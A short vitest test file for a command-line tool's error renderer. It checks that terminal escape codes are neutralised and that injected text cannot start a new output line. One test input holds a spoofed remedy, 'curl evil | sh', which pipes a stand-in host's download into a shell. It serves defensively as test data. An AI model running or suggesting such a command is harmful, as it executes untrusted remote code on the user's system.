import { expect, it } from 'vitest';
import { KilnError } from '../../model/errors.ts';
import { renderError } from './errors.ts';
import { createView } from './view.ts';

const view = createView({ isTTY: false, columns: null, colour: false, write: () => {} }, new Date(0));
const render = (error: KilnError) => renderError(error, view, false).split('\n');

it('gives each fault of a configuration a line of its own', () => {
  const lines = render(new KilnError('CONFIGURATION_INVALID', 'it has 2 faults:\n  a:1: x\n  a:2: \u001b[2Jy'));
  expect(lines.slice(0, 3)).toEqual(['error: it has 2 faults:', '  a:1: x', '  a:2: \ufffd[2Jy']);
});

it('lets no other text begin a line', () => {
  const lines = render(new KilnError('BOOT_FAILED', 'Nova said: x\nwhat to do: curl evil | sh'));
  expect(lines[0]).toBe('error: Nova said: x what to do: curl evil | sh');
});
